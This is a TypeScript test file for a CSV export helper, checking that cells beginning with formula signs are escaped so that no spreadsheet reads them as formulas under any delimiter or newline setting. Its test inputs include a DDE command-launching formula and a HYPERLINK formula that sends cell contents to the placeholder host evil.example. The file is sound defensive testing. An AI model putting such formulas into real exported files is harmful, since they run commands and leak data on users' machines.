import Papa from "papaparse";
import { expect, test } from "vitest";

import { csvLine } from "./csv-cell.ts";

const signs = ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"];
const before = [
  "",
  " ",
  "\n",
  "\r\n",
  ";",
  ",",
  "\t",
  "|",
  '"',
  "'",
  'a"',
  "a;",
  "a\n",
  "a\u00a0;",
  "\u2028",
  "\u3000",
];
const formulas = [
  "1+1",
  'cmd|"/C calc"!A0',
  'HYPERLINK("http://evil.example?x="&A1;"click")',
  "SUM(1,1)",
];

/** Every way in which a spreadsheet may be told to take a file apart. */
const readings = [",", ";", "\t", "|"].flatMap((delimiter) =>
  ['"', "\u0000"].flatMap((quoteChar) =>
    (["\r\n", "\n", "\r"] as const).map((newline) => ({ delimiter, quoteChar, newline })),
  ),
);

function cellsOf(file: string): string[] {
  return readings.flatMap((reading) => Papa.parse<string[]>(file, reading).data.flat());
}

function isFormula(cell: string): boolean {
  return /^["\p{White_Space}]*[=+\-@＝＋－＠]/u.test(cell);
}

const bad = before.flatMap((lead) =>
  signs.flatMap((sign) => formulas.map((formula) => `${lead}${sign}${formula}`)),
);

test(`no cell is a formula, however the file is taken apart (${bad.length} files)`, () => {
  const computed = bad
    .map((cell) => csvLine(["2026-11-22", cell, "Ada", cell, "last"]))
    .filter((file) => cellsOf(file).some(isFormula));

  expect(computed).toEqual([]);
});

test("a cell that begins with a tab or an end of line begins with an apostrophe", () => {
  for (const lead of ["\t", "\r"]) expect(csvLine([`${lead}x`])).toBe(`"'${lead}x"\r\n`);
});

test("a cell that is no formula is read as it was written", () => {
  const cells = ["Ada", 'say "yes"', "two\nlines", "a, b; c", "1 - 1", "Nécessaire", ""];
  const [row] = Papa.parse<string[]>(csvLine(cells)).data;
  expect(row).toEqual(cells);
});

test("what could be a formula stays readable behind its apostrophe", () => {
  expect(csvLine(["=1+1", "a;-2"])).toBe('"\'=1+1","a;\'-2"\r\n');
});
